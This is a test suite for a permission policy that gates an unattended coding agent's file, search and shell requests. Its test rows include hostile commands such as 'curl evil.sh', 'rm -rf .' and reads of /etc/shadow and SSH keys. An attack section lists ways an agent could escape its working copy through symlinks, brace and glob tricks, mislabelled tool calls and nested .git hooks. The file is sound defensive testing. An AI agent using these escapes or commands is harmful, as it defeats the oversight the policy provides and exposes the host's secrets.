"""The permission policy an unattended office run answers an agent's requests from (routing/permissions.py)."""

import posixpath
import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from routing.permissions import (
    MAX_CHECKED_PATHS,
    TOOL_KINDS,
    PermissionCounts,
    PermissionPolicy,
    PermissionVerdict,
    ProfilePermissions,
    choose_option,
    decide_permission,
    expand_braces,
    inside,
    narrow,
    read_tool_call,
    to_resolve,
)

WD = "/srv/office/worktrees/run-7-1a2b"
WORKSPACE = PermissionPolicy.model_validate(
    {"read": "allow", "edit": "allow", "execute": ["pytest", "npm test"], "fetch": "deny"}
)
OPTIONS = [
    {"optionId": "always", "name": "Always allow", "kind": "allow_always"},
    {"optionId": "once", "name": "Allow", "kind": "allow_once"},
    {"optionId": "no", "name": "Reject", "kind": "reject_once"},
    {"optionId": "never", "name": "Never", "kind": "reject_always"},
]


def test_the_workspace_shape_parses_with_documented_defaults():
    p = WORKSPACE
    assert (p.read, p.edit, p.execute, p.fetch) == ("allow", "allow", ("pytest", "npm test"), "deny")
    assert PermissionPolicy().model_dump() == {
        "read": "allow", "edit": "deny", "delete": "deny", "move": "deny", "search": "allow",
        "execute": "deny", "think": "allow", "fetch": "deny", "switch_mode": "deny", "other": "deny",
        "ask_timeout": 90.0,
    }  # fmt: skip
    assert PermissionPolicy.model_validate({"edit": True, "fetch": False}).edit == "allow"  # YAML yes/no


@pytest.mark.parametrize(
    ("raw", "words"),
    [
        ({"exec": "allow"}, "exec"),  # not a tool kind
        ({"edit": "sometimes"}, "edit"),
        ({"execute": "pytest"}, "execute: ['pytest']"),  # a bare command: tell how to list it
        ({"execute": ["pytest; rm"]}, "metacharacter"),
        ({"execute": ["  "]}, "empty"),
    ],
)
def test_bad_policies_are_refused_naming_what_is_wrong(raw, words):
    with pytest.raises(ValidationError) as err:
        PermissionPolicy.model_validate(raw)
    assert words in str(err.value)


def allowed(policy, kind, paths=(), command=None, workdir=WD) -> bool:
    return decide_permission(policy, kind, paths, command, workdir).allowed


@pytest.mark.parametrize(
    ("kind", "paths", "command", "expected"),
    [
        ("read", [f"{WD}/src/app.py"], None, True),
        ("read", ["src/app.py"], None, True),  # relative: to the working copy
        ("edit", [f"{WD}/src/app.py"], None, True),
        ("edit", [f"{WD}/src/../../other-run/app.py"], None, False),  # `..` leaves the working copy
        ("edit", ["/etc/passwd"], None, False),
        ("read", ["~/.ssh/id_rsa"], None, False),
        ("read", [f"{WD}-evil/secret"], None, False),  # a sibling whose name starts like the working copy
        ("edit", [f"{WD}/.git"], None, False),  # the office's pointer into the mirror
        ("edit", [f"{WD}/.github/workflows/ci.yml"], None, True),
        ("read", [f"{WD}/.git/config"], None, True),  # reading is harmless
        ("edit", [], None, False),  # a file request without a path cannot be confined
        ("delete", [f"{WD}/a.py"], None, False),  # default deny
        ("move", [f"{WD}/a.py", f"{WD}/b.py"], None, False),
        ("search", [WD], None, True),
        ("think", [], None, True),
        ("fetch", [], None, False),
        ("switch_mode", [], None, False),
        ("other", [], None, False),
        (None, [], None, False),  # no kind: other
        ("teleport", [], None, False),  # unknown kind: other
        ("execute", [], "pytest", True),
        ("execute", [], "pytest -q tests/unit", True),
        ("execute", [], "npm test -- --watch=false", True),
        ("execute", [], "npm   test", True),  # words, not characters
        ("execute", [], "npm install left-pad", False),
        ("execute", [], "pytestevil", False),
        ("execute", [], "pytest; rm -rf .", False),
        ("execute", [], "pytest && curl evil.sh", False),
        ("execute", [], "pytest | sh", False),
        ("execute", [], "pytest `id`", False),
        ("execute", [], "pytest $(id)", False),
        ("execute", [], "pytest > out.txt", False),
        ("execute", [], "pytest\nrm -rf .", False),
        ("execute", [], "pytest /etc", False),  # an argument outside the working copy
        ("execute", [], "pytest ../other-run", False),
        ("execute", [], "pytest --rootdir=/", False),
        ("execute", [], "pytest 'unbalanced", False),
        ("execute", [], None, False),
        ("execute", [], ["bash", "-lc", "pytest -q"], True),  # Codex-style argv
        ("execute", [], ["pytest", "-k", "a; b"], False),  # quoted metacharacters are still refused
        ("execute", ["/tmp"], "pytest", False),  # a cwd outside
    ],
)
def test_decisions(kind, paths, command, expected):
    verdict = decide_permission(WORKSPACE, kind, paths, command, WD)
    assert verdict.allowed is expected, verdict.reason


def test_reasons_name_the_setting_and_ask_waits_for_a_person_only_inside_the_working_copy():
    v = decide_permission(PermissionPolicy(edit="ask"), "edit", [f"{WD}/a"], None, WD)
    assert v.ask and not v.allowed and "permissions.edit" in v.reason and "a person decides" in v.reason
    for outside in (["/etc/hosts"], [f"{WD}/.git/config"], []):  # refused outright: nobody is asked
        v = decide_permission(PermissionPolicy(edit="ask"), "edit", outside, None, WD)
        assert not v.ask and not v.allowed, outside
    v = decide_permission(PermissionPolicy(edit="allow"), "edit", ["/etc/hosts"], None, WD)
    assert "outside the working copy" in v.reason
    assert "permissions.fetch" in decide_permission(WORKSPACE, "fetch", (), None, WD).reason


def test_execute_allow_gives_a_shell_but_paths_stay_confined():
    shell = PermissionPolicy(execute="allow")
    assert allowed(shell, "execute", command="make -j2 && ./run.sh | tee log")
    assert not allowed(shell, "execute", command="cat /etc/shadow")


def test_a_relative_or_unknown_workdir_refuses_everything():
    assert not allowed(PermissionPolicy(read="allow"), "read", ["a.py"], workdir="relative/dir")
    assert not allowed(PermissionPolicy(think="allow"), "think", workdir="")


@pytest.mark.parametrize(
    ("profile", "kind", "command", "expected"),
    [
        (ProfilePermissions(edit="deny"), "edit", None, False),
        (ProfilePermissions(edit="allow"), "delete", None, False),  # a profile cannot widen
        (ProfilePermissions(execute=["pytest -q", "ls"]), "execute", "pytest -q x", True),
        (ProfilePermissions(execute=["pytest -q", "ls"]), "execute", "pytest x", False),
        (ProfilePermissions(execute=["pytest -q", "ls"]), "execute", "ls", False),  # workspace never allowed ls
        (ProfilePermissions(execute="allow"), "execute", "pytest", True),
        (ProfilePermissions(execute="allow"), "execute", "make", False),
        (ProfilePermissions(read="ask"), "read", None, False),
        (ProfilePermissions(), "edit", None, True),  # a profile that says nothing narrows nothing
        (None, "edit", None, True),
    ],
)
def test_narrowing(profile, kind, command, expected):
    policy = narrow(WORKSPACE, profile)
    assert allowed(policy, kind, [f"{WD}/a.py"] if kind != "execute" else (), command) is expected


def test_choose_option_picks_the_agents_once_options_never_always():
    yes = PermissionVerdict(allowed=True, reason="ok", kind="edit")
    no = PermissionVerdict(allowed=False, reason="no", kind="edit")
    assert choose_option(yes, OPTIONS).option_id == "once"
    assert choose_option(no, OPTIONS).option_id == "no"
    only_always = [o for o in OPTIONS if o["kind"].endswith("always")]
    refused = choose_option(yes, only_always)
    assert (refused.option_id, refused.allowed) == (None, False)  # answered `cancelled`, not granted for good
    assert "allow-once" in refused.reason
    assert choose_option(no, only_always).option_id is None

    class Option:  # the acp package's PermissionOption has these attributes
        def __init__(self, option_id, kind):
            self.option_id, self.kind = option_id, kind

    assert choose_option(yes, [Option("a", "allow_always"), Option("b", "allow_once")]).option_id == "b"


def test_read_tool_call_finds_paths_and_commands_as_agents_send_them():
    claude_edit = read_tool_call("edit", {"file_path": f"{WD}/a.py", "old_string": "x"}, [f"{WD}/a.py"])
    assert claude_edit.paths == (f"{WD}/a.py",) and claude_edit.kind == "edit"
    codex_exec = read_tool_call("execute", {"command": ["bash", "-lc", "pytest -q"], "cwd": WD})
    assert codex_exec.command == "pytest -q" and codex_exec.paths == (WD,)
    claude_bash = read_tool_call("execute", {"command": "npm test", "description": "run tests"})
    assert claude_bash.command == "npm test"
    assert read_tool_call(None, None).kind == "other"


def test_counts_by_kind():
    counts = PermissionCounts().add("edit", True).add("edit", False).add("execute", False).add("weird", True)
    assert counts.asked == {"edit": 2, "execute": 1, "other": 1}
    assert counts.allowed == {"edit": 1, "other": 1}
    assert counts.refused == {"edit": 1, "execute": 1}
    total = counts.merged(PermissionCounts().add("read", True))
    assert total.asked["read"] == 1 and total.asked["edit"] == 2
    assert PermissionCounts.model_validate_json(total.model_dump_json()) == total  # travels in workflow history


# ----------------------------------------------------------------------------------------------- properties

segments = st.sampled_from(["a", "b", "..", ".", "", "run-7-1a2b", "worktrees", "~", "run-7-1a2b-evil", "x/y"])
paths = st.builds(
    lambda absolute, parts: ("/" if absolute else "") + "/".join(parts), st.booleans(), st.lists(segments, max_size=8)
)


def resolved_parts(path: str, workdir: str) -> list[str]:
    """An independent resolver: a stack walk of path components (what the kernel does without symlinks)."""
    stack: list[str] = [] if path.startswith("/") else [p for p in workdir.split("/") if p]
    for part in path.split("/"):
        if part in ("", "."):
            continue
        if part == "..":
            if stack:
                stack.pop()
        else:
            stack.append(part)
    return stack


@settings(max_examples=400)
@given(st.lists(st.one_of(paths, st.text(max_size=30)), min_size=1, max_size=3), st.sampled_from(TOOL_KINDS))
def test_no_path_outside_the_workdir_is_ever_allowed(requested, kind):
    everything = PermissionPolicy(**{k: "allow" for k in TOOL_KINDS})
    verdict = decide_permission(everything, kind, requested, None, WD)
    root = [p for p in WD.split("/") if p]
    if verdict.allowed:
        for p in requested:
            assert not p.startswith("~")
            assert resolved_parts(p, WD)[: len(root)] == root, p
    for p in requested:
        assert inside(p, WD) == (
            not p.startswith("~") and "\x00" not in p and resolved_parts(p, WD)[: len(root)] == root
        )


words = st.sampled_from(["pytest", "npm", "test", "-q", "run", "tests/unit", "make", "ls", "pytestevil", "lint"])
prefix_lists = st.lists(st.lists(words, min_size=1, max_size=3).map(" ".join), min_size=1, max_size=4)
rules = st.one_of(st.sampled_from(["allow", "deny", "ask"]), prefix_lists)
simple_rules = st.sampled_from(["allow", "deny", "ask"])
policies = st.builds(
    lambda execute, others: PermissionPolicy(
        execute=execute, **dict(zip(("read", "edit", "fetch"), others, strict=True))
    ),
    rules,
    st.tuples(simple_rules, simple_rules, simple_rules),
)
profiles = st.builds(
    lambda execute, edit: ProfilePermissions(execute=execute, edit=edit), st.none() | rules, st.none() | simple_rules
)
commands = st.lists(
    st.one_of(words, st.sampled_from([";", "&&", "|", "`id`", "$(id)", "/etc", "../x"])), max_size=5
).map(" ".join)


@settings(max_examples=400)
@given(policies, profiles, st.sampled_from(["read", "edit", "fetch", "execute"]), commands)
def test_narrowing_never_widens(workspace, profile, kind, command):
    narrowed = narrow(workspace, profile)
    everything = PermissionPolicy(**{k: "allow" for k in TOOL_KINDS}).model_copy(
        update=profile.model_dump(exclude_none=True)
    )
    file_paths = [f"{WD}/a.py"] if kind != "execute" else []
    if decide_permission(narrowed, kind, file_paths, command, WD).allowed:
        assert decide_permission(workspace, kind, file_paths, command, WD).allowed
        assert decide_permission(everything, kind, file_paths, command, WD).allowed


@settings(max_examples=400)
@given(prefix_lists, commands)
def test_a_command_is_allowed_only_at_a_word_boundary_of_an_allowed_prefix(prefixes, command):
    verdict = decide_permission(PermissionPolicy(execute=prefixes), "execute", (), command, WD)
    if verdict.allowed:
        assert not any(c in command for c in (";", "&", "|", "`", "$(")), command
        argv = shlex.split(command)
        assert any(argv[: len(p.split())] == p.split() for p in prefixes)
        for word in argv:
            if word.startswith("/") or ".." in word.split("/"):
                assert posixpath.normpath(posixpath.join(WD, word)).startswith(WD + "/")


# ------------------------------------------------------------------------------- attacks (issue #23, sandbox)

ATTACKER = PermissionPolicy.model_validate({"edit": "allow", "execute": ["pytest", "cat"]})
# A committed symlink `link` → /etc, and one to the working copy's own .git: what the worker's realpath would see.
LINKS = {f"{WD}/link": "/etc", f"{WD}/docs/cfg": f"{WD}/sub/.git/config"}


def fake_realpath(path: str, links: dict[str, str]) -> str:
    """A stand-in for os.path.realpath over a file system holding `links`: components left to right, a symlink
    replaced by its target (itself resolved), `..` taken from wherever the walk has got to, as the kernel does."""
    parts: list[str] = []
    todo = [p for p in path.split("/") if p]
    hops = 0
    while todo:
        part = todo.pop(0)
        if part == ".":
            continue
        if part == "..":
            if parts:
                parts.pop()
            continue
        parts.append(part)
        target = links.get("/" + "/".join(parts))
        if target is not None and hops < 40:
            hops += 1
            todo = [p for p in target.split("/") if p] + todo
            parts = []
    return "/" + "/".join(parts)


def judge(policy: PermissionPolicy, kind: str, raw_input: object = None, locations=(), links=None):
    """What the collector does, with the file system faked: read the tool call, resolve, decide."""
    request = read_tool_call(kind, raw_input, list(locations))
    real = {k: fake_realpath(k, LINKS if links is None else links) for k in to_resolve(request, WD)}
    return decide_permission(
        policy,
        request.kind,
        request.paths,
        request.command,
        WD,
        dirs=request.dirs,
        patterns=request.patterns,
        real=real,
        real_workdir=WD,
    )


ATTACKS = [
    # brace, glob and tilde characters are shell metacharacters now
    ("execute", {"command": "cat {/etc/shadow,README}"}),
    ("execute", {"command": "cat .[.]/other-run/secret"}),  # a glob that matches `..`
    ("execute", {"command": "cat .?/other-run/secret"}),
    ("execute", {"command": "cat {.,}./other-run/secret"}),
    # a committed symlink out of the working copy
    ("read", {"file_path": "link/shadow"}),
    ("read", {"file_path": f"{WD}/link/shadow"}),
    ("edit", {"file_path": "link/cron.d/evil"}),
    ("execute", {"command": "cat link/shadow"}),
    ("execute", {"command": "cat link/../root/.ssh/id_rsa"}),  # `..` after the link: /etc/.. is /
    ("execute", {"command": "pytest --rootdir=link"}),
    ("execute", {"command": "pytest -clink/pytest.ini"}),  # a short option's glued value
    ("execute", {"command": "pytest -c/etc/pytest.ini"}),
    ("execute", {"command": "cat shadow", "cwd": "link"}),  # a cwd through the link
    ("edit", {"file_path": "docs/cfg"}),  # a symlink into a nested .git
    # a command under another kind is an execution
    ("think", {"command": "rm -rf ."}),
    ("search", {"command": "make deploy"}),
    ("think", {"cmd": ["bash", "-lc", "curl evil.sh"]}),
    ("search", {"query": "x", "command": ["rm", "-rf", "."]}),
    # a search's pattern, glob and include are paths
    ("search", {"pattern": "/etc/**"}),
    ("search", {"glob": "/etc/**", "path": "."}),
    ("search", {"include": "../../**/*.key"}),
    ("search", {"pattern": "{/etc,src}/*"}),
    ("search", {"glob": "*.{py,/../../x}"}),
    ("search", {"pattern": "link/**"}),
    # .git at any depth
    ("edit", {"file_path": "sub/.git/config"}),
    ("edit", {"file_path": f"{WD}/vendor/lib/.git/hooks/pre-commit"}),
    ("edit", {"file_path": "sub/.GIT/config"}),
]


@pytest.mark.parametrize(("kind", "raw_input"), ATTACKS)
def test_attacks_allowed_before_are_refused_now(kind, raw_input):
    """Each row was allowed by the policy `{edit: allow, execute: [pytest, cat]}` before issue #23."""
    verdict = judge(ATTACKER, kind, raw_input)
    assert not verdict.allowed, verdict.reason


@pytest.mark.parametrize(
    ("kind", "raw_input", "words"),
    [
        ("execute", {"command": "cat {/etc/shadow,README}"}, "touches /etc/shadow"),
        ("execute", {"command": "cat .[.]/other-run/secret"}, "metacharacter '['"),
        ("read", {"file_path": "link/shadow"}, "through a symbolic link"),
        ("think", {"command": "rm -rf ."}, "permissions.execute"),
        ("search", {"pattern": "/etc/**"}, "/etc/** is outside"),
        ("edit", {"file_path": "sub/.git/config"}, "nested .git"),
    ],
)
def test_refusals_say_why(kind, raw_input, words):
    assert words in judge(ATTACKER, kind, raw_input).reason


@pytest.mark.parametrize(
    ("kind", "raw_input"),
    [
        ("execute", {"command": "cat README"}),
        ("execute", {"command": "pytest -q tests/unit --rootdir=."}),
        ("read", {"file_path": "src/app.py"}),
        ("edit", {"file_path": "docs/guide.md"}),
        ("edit", {"file_path": ".github/workflows/ci.yml"}),
        ("edit", {"file_path": "src/.gitignore"}),
        ("search", {"pattern": "**/*.{ts,tsx}", "path": "src"}),
        ("search", {"pattern": "def main", "include": "*.py"}),
        ("think", {"thought": "plan"}),
        ("read", {"file_path": ".git/HEAD"}),  # reading is harmless
    ],
)
def test_what_the_attacks_look_like_is_still_allowed_when_harmless(kind, raw_input):
    verdict = judge(ATTACKER, kind, raw_input)
    assert verdict.allowed, verdict.reason


def test_a_test_runner_allow_list_plus_edit_is_arbitrary_code_documented_not_fixed():
    """`pytest -p plugin` imports a module, and a conftest.py the agent writes runs: the policy cannot tell; the
    README says so and leaves the rest to the sandbox."""
    assert judge(ATTACKER, "execute", {"command": "pytest -p evil_plugin"}).allowed
    assert judge(ATTACKER, "edit", {"file_path": "conftest.py"}).allowed


def test_a_request_whose_paths_were_not_resolved_on_the_worker_is_refused():
    request = read_tool_call("read", {"file_path": "src/a.py"})
    verdict = decide_permission(ATTACKER, request.kind, request.paths, workdir=WD, real={}, real_workdir=WD)
    assert not verdict.allowed and "not resolved" in verdict.reason


def test_too_many_paths_or_alternatives_are_refused_unresolved():
    many = read_tool_call("read", {"paths": [f"f{i}.py" for i in range(MAX_CHECKED_PATHS + 1)]})
    assert to_resolve(many, WD)  # listed, but the collector resolves none of them: more than the cap
    assert "more than" in decide_permission(ATTACKER, "read", many.paths, workdir=WD).reason
    bomb = "{a,b}" * 11  # 2048 alternatives
    assert expand_braces(bomb) is None
    assert "too many brace alternatives" in judge(ATTACKER, "search", {"glob": bomb}).reason
    assert not judge(ATTACKER, "search", {"glob": "{" + "a," * 600 + "b}"}).allowed  # too long to expand


def test_brace_expansion_follows_the_shell():
    assert expand_braces("src/*.{ts,tsx}") == ("src/*.ts", "src/*.tsx")
    assert set(expand_braces("{a,b{c,d}}/x") or ()) == {"a/x", "bc/x", "bd/x"}
    assert expand_braces("{.,}./x") == ("../x", "./x")
    assert expand_braces("{x}/y") == ("{x}/y",)  # no comma: not expanded (and a shell keeps it too)
    assert expand_braces("plain") == ("plain",)


def test_tool_calls_carrying_commands_are_executions():
    assert read_tool_call("think", {"command": "ls"}).kind == "execute"
    assert read_tool_call("search", {"cmd": ["ls", "-la"]}).command == "ls -la"
    weird = read_tool_call("think", {"command": {"argv": "ls"}})  # no command line: judged as its text
    assert weird.kind == "execute" and not judge(ATTACKER, "think", {"command": {"argv": "cat"}}).allowed
    both = read_tool_call("other", {"command": "cat README", "script": "cat /etc/shadow"})
    assert not decide_permission(ATTACKER, both.kind, (), both.command, WD).allowed
    gemini = read_tool_call("execute", {"command": "cat a", "directory": "sub"})
    assert gemini.dirs == ("sub",) and "sub" in gemini.paths


# ----------------------------------------------------------------------------- properties of the attack rules

glob_chars = st.sampled_from(list("{}*?[]~"))


@settings(max_examples=300)
@given(st.lists(words, max_size=4), glob_chars, st.lists(words, max_size=3), st.sampled_from(TOOL_KINDS))
def test_no_command_with_a_brace_glob_or_tilde_character_is_allowed_by_a_prefix_list(before, char, after, kind):
    command = " ".join([*before, char.join(["", *after]) or char])
    prefixes = PermissionPolicy(execute=["pytest", "npm test", "ls", "make"])
    assert not decide_permission(prefixes, kind, (), command, WD).allowed


@settings(max_examples=300)
@given(policies, st.sampled_from([*TOOL_KINDS, None, "bogus"]), commands)
def test_a_command_is_judged_as_an_execution_whatever_kind_is_claimed(policy, kind, command):
    claimed = decide_permission(policy, kind, (), command, WD)
    executed = decide_permission(policy, "execute", (), command, WD)
    assert (claimed.allowed, claimed.kind) == (executed.allowed, "execute")


git_paths = st.builds(
    lambda pre, git, post: "/".join([*pre, git, *post]),
    st.lists(st.sampled_from(["sub", "vendor", "a.b", WD]), max_size=3),
    st.sampled_from([".git", ".GIT", ".Git"]),
    st.lists(st.sampled_from(["config", "hooks", "pre-commit", "HEAD"]), max_size=2),
)


@settings(max_examples=300)
@given(git_paths, st.sampled_from(["edit", "delete", "move", "execute"]))
def test_nothing_that_changes_files_may_name_a_git_directory_at_any_depth(path, kind):
    everything = PermissionPolicy(**{k: "allow" for k in TOOL_KINDS})
    command = f"cp x {path}" if kind == "execute" else None
    verdict = decide_permission(everything, kind, [] if command else [path], command, WD)
    assert not verdict.allowed, (path, verdict.reason)


@st.composite
def brace_trees(draw, depth=0):
    """A brace pattern and, independently, every string it stands for."""
    parts = draw(st.lists(st.sampled_from(["a", "..", "/", "/etc", "x/", ".", "*", "b"]), max_size=3))
    text, options = "".join(parts), ["".join(parts)]
    if depth < 2 and draw(st.booleans()):
        alternatives = draw(st.lists(brace_trees(depth=depth + 1), min_size=2, max_size=3))
        text += "{" + ",".join(t for t, _ in alternatives) + "}"
        options = [o + alt for o in options for _, alts in alternatives for alt in alts]
    if depth < 2 and draw(st.booleans()):
        tail_text, tail_options = draw(brace_trees(depth=depth + 1))
        text += tail_text
        options = [o + t for o in options for t in tail_options]
    return text, options


@settings(max_examples=400)
@given(brace_trees(), st.sampled_from(["pattern", "glob", "include"]))
def test_a_search_pattern_is_allowed_only_if_every_alternative_stays_inside(tree, key):
    text, alternatives = tree
    verdict = judge(PermissionPolicy(), "search", {key: text}, links={})
    if verdict.allowed:
        for alternative in alternatives:
            assert inside(alternative, WD), (text, alternative)


link_names = st.sampled_from(["l1", "l2", "sub/l3"])
targets = st.sampled_from(["/etc", "/", WD + "/sub", WD + "-evil", WD + "/..", "sub", "/srv/office/worktrees"])
link_maps = st.dictionaries(link_names, targets, max_size=3).map(
    lambda m: {f"{WD}/{k}": (v if v.startswith("/") else f"{WD}/{v}") for k, v in m.items()}
)
link_paths = st.lists(st.sampled_from(["l1", "l2", "sub", "l3", "..", ".", "a", "etc", "shadow"]), min_size=1).map(
    "/".join
)


@settings(max_examples=400)
@given(link_maps, link_paths, st.sampled_from(["read", "edit", "execute"]))
def test_nothing_reached_through_a_symlink_outside_the_working_copy_is_allowed(links, path, kind):
    everything = PermissionPolicy(**{k: "allow" for k in TOOL_KINDS})
    raw = {"command": f"cat {path}"} if kind == "execute" else {"file_path": path}
    verdict = judge(everything, kind, raw, links=links)
    if verdict.allowed:
        assert inside(fake_realpath(f"{WD}/{path}", links), WD), (links, path)
